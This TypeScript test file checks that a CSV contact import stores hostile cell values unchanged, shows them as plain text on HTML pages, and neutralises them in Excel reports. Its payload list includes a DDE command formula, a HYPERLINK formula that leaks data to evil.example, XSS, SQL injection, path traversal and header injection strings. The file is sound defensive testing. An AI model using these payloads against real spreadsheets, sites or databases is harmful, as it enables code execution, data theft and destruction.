import assert from 'node:assert/strict';
import { buffer } from 'node:stream/consumers';
import { after, before, test } from 'node:test';
import { createImport } from '#features/imports/create-import.ts';
import { findImport } from '#features/imports/find-import.ts';
import { updateMapping } from '#features/imports/mapping/update-mapping.ts';
import { startImport } from '#features/imports/start-import.ts';
import { writeReport } from '#features/imports/write-report.ts';
import { createSession } from '#features/sessions/create-session.ts';
import type { Context } from '#platform/context.ts';
import { inTransaction } from '#platform/database/transaction.ts';
import { inspectTable } from '#platform/tables/inspect-table.ts';
import { writeCsv } from '#platform/tables/write-csv.ts';
import { loadProgram } from './load-program.ts';
import { makeFile } from './make-file.ts';
import { startApp, type TestApp } from './start-app.ts';

/** What people put into cells who mean harm to whoever looks at them, opens them in Excel, or sends them to a database. */
const naughty = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '＝1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table contact; --",
  '</textarea></title><svg/onload=alert(1)>',
  '{{7*7}}<%= 7*7 %>',
  'javascript:alert(1)',
  '../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  'list\u202Efdp.exe',
  'Z̸̢̛̯a̶l̷g̸o',
  '👩‍👩‍👧‍👦 𝒳 ﷽',
  'O\'Brien \\ "quoted"',
  'null',
];

let app: TestApp;
let ctx: Context;
let cookie: string;
before(async () => {
  app = await startApp({ program: await loadProgram() });
  ctx = await app.ctxOfAdmin();
  const agent_id = ctx.caller.kind === 'agent' ? ctx.caller.agent_id : 0;
  cookie = `__Host-agent_session=${(await createSession(ctx, { agent_id, is_remembered: false })).token}`;
});
after(() => app.stop());

async function run(rows: string[][]): Promise<number> {
  const bytes = writeCsv([[['Name', 'Email', 'Job title', 'Company', 'Tags', 'Notes'], ...rows]]);
  const { id } = await createImport(ctx, { name: '=cmd|<b>.csv', bytes });
  const fields = ['name', 'email', 'job_title', 'company', 'tags', 'description'];
  const columns = fields.map((field) => ({ field, rule: 'overwrite' as const }));
  await updateMapping(ctx, { id, columns, can_create_companies: true });
  await startImport(ctx, { id });
  await app.worker.runDue();
  return id;
}

async function pageOf(path: string): Promise<string> {
  const response = await app.ask(path, { cookie, headers: { accept: 'text/html' } });
  assert.equal(response.status, 200, path);
  return response.text();
}

/** None of the texts stands in the page as markup. */
function isHarmless(page: string): void {
  for (const text of naughty.filter((one) => one.includes('<'))) assert.ok(!page.includes(text), text);
}

test('G07 formulas, scripts and other harm are stored as they were typed and shown as words', async () => {
  const id = await run(
    naughty.map((text, at) => [text, `n${at}@acorn.example`, text, text, text.replaceAll(/[,;]/g, ' '), text]),
  );
  const { progress } = await findImport(ctx, { id });
  assert.deepEqual([progress.run?.created, progress.run?.refused], [naughty.length, 0]);
  const stored = await inTransaction(ctx, ({ db }) =>
    db.selectFrom('contact').select(['id', 'name', 'job_title', 'description']).orderBy('id').execute(),
  );
  // Fields drop blanks around a text and marks that turn the direction of writing; nothing else.
  const kept = naughty.map((text) => text.trim().replace('\u202E', ''));
  assert.deepEqual(
    stored.map(({ name, job_title, description }) => [name, job_title, description]),
    kept.map((text) => [text, text, text]),
  );
  for (const path of [
    '/contacts',
    `/contacts/${stored[7]!.id}`,
    `/contacts/${stored[8]!.id}`,
    '/companies',
    '/imports',
  ]) {
    isHarmless(await pageOf(path));
  }
});

test('G07 G03 refused rows come back neutralised for Excel, and are read back as they were', async () => {
  const id = await run(naughty.map((text) => [text, 'no address', text, text, '', text]));
  isHarmless(await pageOf(`/imports/${id}?show=refused`));
  const report = await buffer(await writeReport(ctx, { id, phase: 'run' }));
  const cells = report.toString().split(/[,\r\n]+/);
  assert.ok(
    cells.every((cell) => !/^"?[=+\-@\t＝]/.test(cell)),
    cells.find((cell) => /^"?[=+\-@\t＝]/.test(cell)),
  );
  const { sample_rows } = await inspectTable(makeFile(report));
  assert.deepEqual(
    sample_rows.map((row) => [row.cells[0], row.cells[2], row.cells[5]]),
    naughty.map((text) => [text, text, text]),
  );
});
